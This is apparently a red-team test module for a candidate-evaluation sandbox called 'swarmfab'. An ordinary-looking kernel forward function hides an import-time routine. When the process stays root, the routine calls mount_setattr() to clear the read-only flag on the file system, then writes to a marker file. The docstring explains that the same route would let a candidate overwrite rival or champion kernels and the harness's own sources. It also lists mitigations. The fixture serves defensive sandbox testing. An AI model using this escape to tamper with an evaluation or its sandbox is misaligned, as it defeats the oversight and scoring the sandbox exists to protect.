"""HOLE (sandbox: the read-only file system can be switched back): the job's child makes
every mount read-only except its working directory, but where it cannot drop to an
unprivileged user it stays root with all capabilities, and one mount_setattr() call
clears the read-only flag again. From there a candidate can write anywhere: the build
cache (another candidate's or the champion's kernel.so), the store, or swarmfab's own
sources for the next run.

The math is honest (so it is accepted); at import it appends a line to the file named
by $SWARMFAB_REDTEAM_MARKER, first directly, then after clearing the read-only flag.
The test checks that the file stays untouched.

Should be caught by: dropping capabilities even when staying root (or a user namespace),
and a seccomp rule refusing mount, mount_setattr, umount, unshare, setns and ptrace.
"""

import ctypes
import os

from swarmfab.workloads.delta import math as delta_math

_MOUNT_SETATTR = 442  # x86_64 and aarch64
_AT_FDCWD, _AT_RECURSIVE, _MOUNT_ATTR_RDONLY = -100, 0x8000, 1


class _MountAttr(ctypes.Structure):
    _fields_ = [("attr_set", ctypes.c_uint64), ("attr_clr", ctypes.c_uint64),
                ("propagation", ctypes.c_uint64), ("userns_fd", ctypes.c_uint64)]


def _write(marker, how):
    try:
        with open(marker, "a") as out:
            out.write(f"{how}: written from pid {os.getpid()}\n")
        return True
    except OSError:
        return False


def _escape(marker):
    if _write(marker, "directly"):
        return
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    writable = _MountAttr(0, _MOUNT_ATTR_RDONLY, 0, 0)
    libc.syscall(_MOUNT_SETATTR, _AT_FDCWD, b"/", _AT_RECURSIVE, ctypes.byref(writable),
                 ctypes.sizeof(writable))
    _write(marker, "after clearing the read-only flag")


if os.environ.get("SWARMFAB_REDTEAM_MARKER"):
    _escape(os.environ["SWARMFAB_REDTEAM_MARKER"])


def forward(q, k, v, g, beta, scale=None, initial_state=None, output_final_state=False):
    scale = q.shape[-1] ** -0.5 if scale is None else scale
    o, state = delta_math.chunked(q, k, v, g, beta, scale, initial_state)
    return o, state if output_final_state else None
